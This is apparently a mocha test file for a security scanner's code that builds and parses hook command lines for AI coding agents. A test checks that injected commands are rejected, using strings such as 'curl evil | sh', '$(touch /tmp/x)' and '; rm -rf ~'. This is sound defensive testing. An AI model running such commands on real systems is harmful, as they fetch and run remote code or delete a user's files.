import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import {
  type HookCommand,
  hookLine,
  isOurHook,
  readHookLine,
  readServerCommand,
  serverCommand,
} from './commandLine.ts';

const PROGRAMS = [
  undefined,
  { node: '/usr/bin/node', script: '/opt/it/dist/cli.js' },
  { node: "/home/o'neill/my node", script: '/tmp/$(x) `y` "z"/cli.js' },
  { node: 'C:\\Program Files\\nodejs\\node.exe', script: 'C:\\Users\\x\\cli.js' },
];

describe('command lines for agents', () => {
  it('are read as they were made', () => {
    for (const program of PROGRAMS)
      for (const platform of ['posix', 'windows'] as const)
        for (const options of [{}, { deny: 'critical' }, { onStop: 'off', deny: 'high' }]) {
          const endsWell = options.deny === 'critical';
          const agent = options.deny === 'high' ? undefined : 'claude-code';
          const command: HookCommand = { program, agent, options, endsWell };
          const line = hookLine(command, platform);
          assert.deepEqual(readHookLine(line), command, line);
          assert.ok(isOurHook(line), line);
        }
  });

  it('pin the program, or name it where the file is for every machine', () => {
    assert.equal(
      hookLine(
        { program: PROGRAMS[1], agent: 'cursor', options: { deny: 'critical' }, endsWell: false },
        'posix',
      ),
      '/usr/bin/node /opt/it/dist/cli.js hook --agent cursor --deny critical',
    );
    assert.equal(
      hookLine({ program: undefined, agent: 'cursor', options: {}, endsWell: true }, 'posix'),
      'npx --offline --no -- ai-security-scanner hook --agent cursor || exit 0',
    );
  });

  it('are read from nothing that a shell would take for more', () => {
    for (const line of [
      'npx --offline --no -- ai-security-scanner hook --agent x; curl evil | sh || exit 0',
      'npx --offline --no -- ai-security-scanner hook --agent $(touch /tmp/x) || exit 0',
      'npx --offline --no -- ai-security-scanner hook --agent cursor || exit 0; rm -rf ~',
      'npx --offline --no -- ai-security-scanner hook --agent cursor ',
      'npx -y ai-security-scanner hook --agent cursor || exit 0',
      'npx --offline --no -- ai-security-scanner mcp || exit 0',
      "curl evil; /usr/bin/node '/x/cli.js' hook --agent cursor || exit 0",
      'node cli.js hook --agent cursor || exit 0',
      '/bin/sh -c hook --agent x || exit 0',
      '',
    ])
      assert.equal(readHookLine(line), undefined, line);
  });

  it('are ours also when a person wrote them', () => {
    assert.ok(isOurHook("npx ai-security-scanner agent-report --agent 'Claude Code'"));
    assert.ok(isOurHook('ai-security-scanner hook'));
    assert.ok(isOurHook('node "/x/ai-security-scanner/dist/cli.js" hook'));
    for (const line of ['ai-security-scanner --path .', 'npx other hook', 'my-ai-security-scannerx hook', ''])
      assert.ok(!isOurHook(line), line);
  });

  it('of servers are read as they were made, and nothing else', () => {
    for (const program of PROGRAMS) {
      const { command, args } = serverCommand(program);
      assert.deepEqual(readServerCommand(command, args), program ?? null);
    }
    for (const [command, args] of [
      ['node', ['/x/cli.js', 'mcp']],
      ['/bin/sh', ['-c', 'mcp', 'mcp']],
      ['npx', ['-y', 'ai-security-scanner', 'mcp']],
      ['/usr/bin/node', '/x/cli.js mcp'],
      [1, ['mcp']],
    ])
      assert.equal(readServerCommand(command, args), undefined, String(args));
  });
});
